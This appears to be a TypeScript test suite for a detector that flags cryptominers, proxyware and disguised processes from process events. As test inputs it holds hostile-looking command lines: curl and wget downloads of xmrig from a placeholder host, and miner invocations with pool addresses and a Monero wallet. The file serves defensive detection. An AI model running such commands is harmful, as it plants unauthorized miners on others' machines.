import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ProcessFields } from '../model/event.js';
import type { Signal } from '../model/signal.js';
import { IntelStore } from './intel/store.js';
import type { Intel } from './intel/types.js';
import { processClassifier, suspiciousLocation } from './process.js';
import { evt, signalsOf, testIntel } from './test-events.js';

const XMR = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

function run(process: ProcessFields, extra: Parameters<typeof evt>[1] = {}) {
  return signalsOf(processClassifier, evt('exec', { process, ...extra }));
}

const kinds = (signals: Array<{ by: string; strength: string }>) => signals.map((s) => `${s.by}/${s.strength}`).sort();

test('a known miner name is strong miner evidence, naming the field and value', () => {
  const s = run({ pid: 4130, name: 'xmrig', executable: '/opt/miner/xmrig' });
  assert.deepEqual(kinds(s), ['process:miner-name/strong']);
  assert.equal(s[0].kind, 'miner-process');
  assert.match(
    s[0].explanation,
    /process\.executable \/opt\/miner\/xmrig .*intel miner-names \d{4}-\d{2}-\d{2}: xmrig/,
  );
  assert.equal(s[0].intel?.set, 'miner-names');
  assert.equal(s[0].subject?.executable, '/opt/miner/xmrig');
  assert.equal(s[0].entity, 'process:web-01:4130');
});

test('a miner renamed on disk is still caught by its process name', () => {
  const s = run({ pid: 1, name: 'XMRig', executable: '/usr/local/bin/updater' });
  assert.ok(s.some((x) => x.by === 'process:miner-name' && /process\.name XMRig/.test(x.explanation)));
});

test('a Windows miner renamed on disk is caught by the name it was built with (Sysmon OriginalFileName)', () => {
  const s = run({
    pid: 7,
    name: 'winupdsvc.exe',
    executable: 'C:\\ProgramData\\Update\\winupdsvc.exe',
    pe: { original_file_name: 'xmrig.exe' },
  });
  assert.ok(
    s.some(
      (x) =>
        x.by === 'process:miner-name' &&
        /original_file_name xmrig\.exe \(renamed to winupdsvc\.exe\)/.test(x.explanation),
    ),
  );
  assert.deepEqual(run({ pid: 8, name: 'notepad.exe', pe: { original_file_name: 'NOTEPAD.EXE' } }), []);
});

test('kdevtmpfsi in /tmp is a miner that runs from a world-writable place, not a kernel thread', () => {
  const s = run({ pid: 9, name: 'kdevtmpfsi', executable: '/tmp/kdevtmpfsi' });
  assert.deepEqual(kinds(s), ['process:miner-name/strong', 'process:suspicious-location/medium']);
});

test('a listed hash is strong miner evidence whichever digest the source gives', () => {
  const hex = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';
  const intelEvent = evt('exec', { process: { pid: 3, name: 'app', executable: '/srv/app', hash: { sha256: hex } } });
  const out: Signal[] = [];
  const store = new IntelStore();
  store.add('miner-hash', hex, 'case.txt', 'strong');
  processClassifier.classify(intelEvent, { intel: store }, out);
  assert.deepEqual(kinds(out), ['process:miner-hash/strong']);
  assert.match(out[0].explanation, /process\.hash\.sha256 9f86d0/);
});

test('a wallet beside pool options is strong; a wallet alone is medium', () => {
  const login = run({
    pid: 1,
    name: 'app',
    executable: '/opt/x/app',
    command_line: `/opt/x/app -o 1.2.3.4:443 -u ${XMR}`,
  });
  assert.deepEqual(kinds(login), ['process:wallet/strong']);
  assert.match(login[0].explanation, /process\.command_line holds a Monero address 44AFFq5kSiGB…QBEP3A beside pool/);
  const alone = run({ pid: 1, name: 'app', executable: '/opt/x/app', command_line: `/opt/x/app ${XMR}` });
  assert.deepEqual(kinds(alone), ['process:wallet/medium']);
});

test('a wallet is a login only beside real pool options: -o with a file, not a host:port, is no pool', () => {
  for (const cmd of [
    `/usr/bin/report -o out.json --note ${XMR}`,
    `ssh -o StrictHostKeyChecking=no backup@host echo ${XMR}`,
    `gcc -o wallet-${XMR} main.c`,
  ])
    assert.deepEqual(kinds(run({ pid: 1, name: 'x', executable: '/usr/bin/x', command_line: cmd })), [
      'process:wallet/medium',
    ]);
  for (const cmd of [
    `/usr/bin/systemd-helper -o pool.example:443 -u ${XMR}`,
    `/usr/bin/systemd-helper --url=stratum+ssl://pool.example:443 ${XMR}`,
    `/usr/bin/systemd-helper -opool.example:443 --user ${XMR} -p x`,
    `/usr/bin/systemd-helper --donate-level 1 ${XMR}`,
  ])
    assert.deepEqual(
      kinds(run({ pid: 1, name: 'systemd-helper', executable: '/usr/bin/systemd-helper', command_line: cmd })),
      ['process:wallet/strong'],
      cmd,
    );
});

test('a download whose output file or URL names a known miner is miner evidence', () => {
  for (const cmd of [
    'curl -sL -o xmrig http://203.0.113.9/a',
    'wget -q -O /tmp/xmrig http://203.0.113.9/b',
    'wget --output-document=/dev/shm/kdevtmpfsi http://203.0.113.9/c',
    'curl -sLO https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz',
    'sh -c "cd /tmp; wget http://203.0.113.9/xmrig.zip; unzip xmrig.zip"',
    'curl http://203.0.113.9/files/xmrig',
  ]) {
    const s = run({ pid: 5, name: 'curl', executable: '/usr/bin/curl', command_line: cmd });
    assert.deepEqual(kinds(s), ['process:miner-download/strong'], cmd);
    assert.equal(s[0].kind, 'miner-process');
    assert.match(
      s[0].explanation,
      /downloads \S*(?:xmrig|kdevtmpfsi)\S*, named as a known miner \(intel (?:miner-names|test-only-indicators\.csv)/,
    );
  }
  const args = run({ pid: 5, name: 'wget', executable: '/usr/bin/wget', args: ['wget', '-O', 'xmrig', 'http://x/y'] });
  assert.deepEqual(kinds(args), ['process:miner-download/strong']);
  for (const cmd of [
    'curl -o out.tar.gz https://example.com/out.tar.gz',
    'wget https://example.com/releases/app-1.2.0-linux-x64.tar.gz',
    'curl -s -o /dev/null https://example.com/xmrig-status',
    'git clone https://github.com/xmrig/xmrig',
    'cp /srv/mirror/xmrig.tar.gz /tmp/',
  ])
    assert.deepEqual(run({ pid: 5, name: 'x', executable: '/usr/bin/x', command_line: cmd }), [], cmd);
});

test('args are read when the source has no command line', () => {
  const s = run({ pid: 1, name: 'app', executable: '/opt/x/app', args: ['/opt/x/app', '--user', XMR, '-o', 'h:1'] });
  assert.deepEqual(kinds(s), ['process:wallet/strong']);
});

test('a Monero node or wallet handling an address is not a miner, unless monerod is told to mine', () => {
  const node = run({
    pid: 1,
    name: 'monerod',
    executable: '/usr/local/bin/monerod',
    command_line: '/usr/local/bin/monerod --data-dir /var/lib/monero --rpc-bind-port 18081',
  });
  assert.deepEqual(node, []);
  const wallet = run({
    pid: 1,
    name: 'monero-wallet-cli',
    executable: '/usr/local/bin/monero-wallet-cli',
    command_line: `monero-wallet-cli --wallet-file w transfer ${XMR} 1`,
  });
  assert.deepEqual(wallet, []);
  const mining = run({
    pid: 1,
    name: 'monerod',
    executable: '/usr/local/bin/monerod',
    command_line: `monerod --start-mining ${XMR} --mining-threads 8`,
  });
  assert.deepEqual(kinds(mining), ['process:wallet/medium']);
});

test('a miner-named process with a JSON config is medium evidence, also for builds intel does not list', () => {
  const s = run({
    pid: 1,
    name: 'xmrig-6.21',
    executable: '/opt/xmrig-6.21',
    command_line: 'xmrig-6.21 -c config.json',
  });
  assert.deepEqual(kinds(s), ['process:miner-config/medium']);
  assert.match(s[0].explanation, /config file config\.json/);
  const eq = run({ pid: 1, name: 'xmrig', executable: '/opt/xmrig', args: ['xmrig', '--config=/etc/x/config.json'] });
  assert.deepEqual(kinds(eq), ['process:miner-config/medium', 'process:miner-name/strong']);
  const other = run({ pid: 1, name: 'node', executable: '/usr/bin/node', command_line: 'node app.js -c config.json' });
  assert.deepEqual(other, []);
});

test('a proxyware client is strong evidence and its account arguments are shown with secrets hidden', () => {
  const s = run({
    pid: 7,
    name: 'pawns-cli',
    executable: '/usr/local/bin/pawns-cli',
    command_line: 'pawns-cli -email=ops@example.net -password=hunter2 -device-name=n1 -accept-tos',
  });
  assert.deepEqual(kinds(s), ['process:proxyware-name/strong']);
  assert.equal(s[0].kind, 'proxyware-process');
  assert.match(s[0].explanation, /-email=ops@example\.net -password=\(hidden\) -device-name=n1/);
  assert.doesNotMatch(s[0].explanation, /hunter2/);
});

test('proxyware terms flags under an unlisted name: strong beside the account they earn for, medium alone', () => {
  const s = run({
    pid: 8,
    name: 'Cli',
    executable: '/app/Cli',
    args: ['/app/Cli', 'start', 'accept', '--token', 'T0KEN'],
  });
  assert.deepEqual(kinds(s), ['process:proxyware-args/strong']);
  assert.match(s[0].explanation, /Traffmonetizer client arguments \(--token=\(hidden\)\)/);
  const bare = run({ pid: 10, name: 'Cli', executable: '/app/Cli', command_line: '/app/Cli -accept-tos' });
  assert.deepEqual(kinds(bare), ['process:proxyware-args/medium']);
  const vpnNode = run({
    pid: 11,
    name: 'node',
    executable: '/usr/bin/node',
    command_line: '/usr/bin/node --agreed-terms-and-conditions --token=T service',
  });
  assert.ok(kinds(vpnNode).includes('process:proxyware-args/medium'), 'Mysterium is often run on purpose');
  const honeygain = run({
    pid: 9,
    name: 'agent',
    executable: '/app/agent',
    command_line: '/app/agent -tou-accept -email a@b.example -pass x -device d1',
  });
  assert.match(honeygain[0].explanation, /Honeygain.*-email=a@b\.example -pass=\(hidden\) -device=d1/);
});

test('a process in a known miner or proxyware image is evidence', () => {
  const s = run(
    { pid: 1, name: 'sh', executable: '/bin/sh' },
    { container: { id: 'c1', image: { name: 'docker.io/metal3d/xmrig:latest' } } },
  );
  assert.deepEqual(kinds(s), ['process:miner-image/strong']);
  const p = run(
    { pid: 1, name: 'Cli', executable: '/app/Cli' },
    { container: { id: 'c2', image: { name: 'traffmonetizer/cli_v2' } } },
  );
  assert.deepEqual(kinds(p), ['process:proxyware-image/strong']);
  assert.deepEqual(
    run(
      { pid: 1, name: 'nginx', executable: '/usr/sbin/nginx' },
      { container: { id: 'c3', image: { name: 'nginx:1.25' } } },
    ),
    [],
  );
});

test('a kernel-thread name on a real executable is strong masquerade', () => {
  for (const name of [
    '[kworker/0:1]',
    'kworker/u8:2-events_unbound',
    '[kthreadd]',
    'ksoftirqd/0',
    'kswapd0',
    'kworker',
  ])
    assert.deepEqual(
      kinds(run({ pid: 9, name, executable: '/usr/bin/k' })),
      ['process:kernel-thread-name/strong'],
      name,
    );
  const s = run({ pid: 9, name: 'kworker/0:1', executable: '/usr/local/lib/.cache/k' });
  assert.deepEqual(kinds(s), ['process:kernel-thread-name/strong', 'process:suspicious-location/medium']);
  assert.match(s[0].explanation, /kernel threads have no executable and this one runs \/usr\/local\/lib\/\.cache\/k/);
});

test('a kernel-thread name in argv[0] (exec -a) is masquerade too', () => {
  const s = run({ pid: 9, name: 'x', executable: '/usr/bin/x', command_line: '[kworker/1:0H]' });
  assert.ok(s.some((x) => x.by === 'process:kernel-thread-name' && /argv\[0\]/.test(x.explanation)));
});

test('real kernel threads have no executable and are not masquerade', () => {
  for (const p of [
    { pid: 2, name: 'kthreadd' },
    { pid: 12, name: 'kworker/0:1', executable: '' },
    { pid: 13, name: 'ksoftirqd/0', executable: '/proc/13/exe' },
  ])
    assert.deepEqual(run(p), [], p.name);
  assert.deepEqual(
    signalsOf(processClassifier, evt('process-seen', { process: { pid: 2, name: '[kworker/0:1]' } })),
    [],
  );
});

test('programs in world-writable or hidden directories are medium masquerade; toolchains are not', () => {
  for (const exe of [
    '/tmp/x',
    '/var/tmp/.x/y',
    '/dev/shm/z',
    '/run/user/1000/a',
    '/root/.configrc/bin/sd',
    '/etc/.sys/x',
  ])
    assert.deepEqual(
      kinds(run({ pid: 1, name: exe.split('/').pop(), executable: exe })),
      ['process:suspicious-location/medium'],
      exe,
    );
  for (const exe of [
    '/home/ana/.local/bin/poetry',
    '/home/ana/.nvm/versions/node/v20.11.0/bin/node',
    '/home/ana/proj/.venv/bin/python3.12',
    '/tmp/go-build2811/b001/exe/main',
    '/home/ci/.cache/bazel/_bazel_ci/abc/execroot/x/bazel-out/k8-opt/bin/tool',
  ])
    assert.equal(suspiciousLocation(exe), undefined, exe);
});

test('a deleted executable is medium, and weak in package directories where upgrades leave it', () => {
  const s = run({ pid: 1, name: 'app', executable: '/opt/x/app', exe_deleted: true });
  assert.deepEqual(kinds(s), ['process:deleted-executable/medium']);
  assert.match(s[0].explanation, /running from a deleted executable/);
  const upgraded = run({ pid: 1, name: 'sshd', executable: '/usr/sbin/sshd', exe_deleted: true });
  assert.deepEqual(kinds(upgraded), ['process:deleted-executable/weak']);
});

test('fileless executables are masquerade; runc running from its own memfd clone is not', () => {
  const s = run({ pid: 1, name: 'x', executable: '/memfd: (deleted)', exe_deleted: true });
  assert.ok(s.some((x) => x.by === 'process:suspicious-location' && /memfd/.test(x.explanation)));
  assert.deepEqual(
    run({
      pid: 1,
      name: 'runc:[2:INIT]',
      executable: '/memfd:runc_cloned:/proc/self/exe (deleted)',
      exe_deleted: true,
    }),
    [],
  );
});

test('a process name that is not its executable is medium masquerade', () => {
  const s = run({ pid: 1, name: 'sshd', executable: '/tmp/.x/xmrig' });
  assert.deepEqual(kinds(s), [
    'process:miner-name/strong',
    'process:name-mismatch/medium',
    'process:suspicious-location/medium',
  ]);
  assert.match(
    s.find((x) => x.by === 'process:name-mismatch')?.explanation ?? '',
    /process\.name sshd is not the name of its executable \/tmp\/\.x\/xmrig/,
  );
  assert.deepEqual(kinds(run({ pid: 1, name: 'crond', executable: '/usr/bin/sysmon' })), [
    'process:name-mismatch/medium',
  ]);
});

test('interpreters, symlinks, truncated and self-set names are not masquerade', () => {
  for (const [name, exe] of [
    ['python3', '/usr/bin/python3.11'],
    ['gunicorn', '/usr/bin/python3.11'],
    ['npm', '/usr/bin/node'],
    ['sh', '/usr/bin/dash'],
    ['awk', '/usr/bin/gawk'],
    ['vi', '/usr/bin/vim.basic'],
    ['mysqld', '/usr/sbin/mariadbd'],
    ['redis-server', '/usr/bin/redis-check-rdb'],
    ['containerd-shim', '/usr/bin/containerd-shim-runc-v2'],
    ['(sd-pam)', '/usr/lib/systemd/systemd'],
    ['Isolated Web Co', '/usr/lib/firefox/firefox'],
    ['ps', '/bin/busybox'],
    ['modprobe', '/usr/bin/kmod'],
    ['exe', '/usr/bin/runc'],
    ['editor', '/usr/bin/nano'],
  ])
    assert.deepEqual(run({ pid: 1, name, executable: exe }), [], `${name} ${exe}`);
});

test('ordinary heavy programs raise no process evidence', () => {
  for (const [name, exe, cmd] of [
    ['python3', '/usr/bin/python3.11', 'python3 train.py --epochs 50 --config config.json'],
    ['ffmpeg', '/usr/bin/ffmpeg', 'ffmpeg -i a.mov -c:v libx264 -preset slow b.mp4'],
    ['ninja', '/usr/bin/ninja', 'ninja -C out/Release -j 32'],
    ['make', '/usr/bin/make', 'make -j16 all'],
    ['cc1plus', '/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus', 'cc1plus -quiet -O2 x.cc'],
    ['java', '/usr/lib/jvm/java-17-openjdk-amd64/bin/java', 'java -Xmx8g -jar build.jar'],
    ['git', '/usr/bin/git', 'git checkout 0x1234567890abcdef1234567890abcdef12345678'],
  ])
    assert.deepEqual(run({ pid: 1, name, executable: exe, command_line: cmd }), [], name);
});

test('events other than exec and process-seen, and events without a process, are ignored', () => {
  assert.deepEqual(signalsOf(processClassifier, evt('connect', { process: { pid: 1, name: 'xmrig' } })), []);
  assert.deepEqual(signalsOf(processClassifier, evt('exec')), []);
});

test('hostile field values never throw and are bounded in explanations', () => {
  const huge = `\u001b[31m${'x'.repeat(100_000)}`;
  const s = run({
    pid: 1,
    name: huge,
    executable: `/tmp/${huge}`,
    command_line: huge,
    args: [huge],
    exe_deleted: true,
  });
  assert.ok(s.length > 0);
  for (const x of s) {
    assert.ok(x.explanation.length < 600);
    assert.doesNotMatch(x.explanation, /\u001b/);
  }
});

test('options only a miner takes say miner by any name, without a pool or wallet in sight', () => {
  for (const command of [
    '/dev/shm/.x/systemd-logind -c /dev/shm/.x/config.json --cpu-priority=4 --threads=3',
    '/var/tmp/kworker --donate-level 1 --randomx-init=4',
  ]) {
    const out = run({ pid: 9, command_line: command, executable: command.split(' ')[0] });
    const hit = out.find((s) => s.by === 'process:miner-options');
    assert.equal(hit?.strength, 'strong', command);
  }
  for (const command of ['nice -n 19 make -j4 --quiet', 'ssh -o ServerAliveInterval=30 -p 2222 build@10.0.0.9']) {
    const out = run({ pid: 9, command_line: command, executable: command.split(' ')[0] });
    assert.ok(!out.some((s) => s.by === 'process:miner-options'), command);
  }
});

test('a program name is looked up once however many of its names agree, and each different name still is', () => {
  const intel = testIntel();
  let lookups = 0;
  const counting: Intel = Object.create(intel);
  counting.processName = (name: string) => {
    lookups++;
    return intel.processName(name);
  };
  const run = (process: ProcessFields) => {
    lookups = 0;
    const out: Signal[] = [];
    processClassifier.classify(evt('exec', { process }), { intel: counting }, out);
    return out;
  };
  assert.deepEqual(run({ pid: 1, name: 'ls', executable: '/usr/bin/ls', command_line: 'ls -la /tmp' }), []);
  assert.equal(lookups, 1);
  // a shell running a miner by path: the executable, then what argv[0] names
  const s = run({ pid: 2, name: 'bash', executable: '/usr/bin/bash', command_line: '/tmp/xmrig -c c.json' });
  assert.equal(lookups, 2);
  assert.ok(s.some((x) => x.by === 'process:miner-name' && x.explanation.includes('argv[0] /tmp/xmrig')));
  // the process name, when it is not the file's
  run({ pid: 3, name: 'kdevtmpfsi', executable: '/usr/bin/ls', command_line: 'kdevtmpfsi' });
  assert.equal(lookups, 2);
});
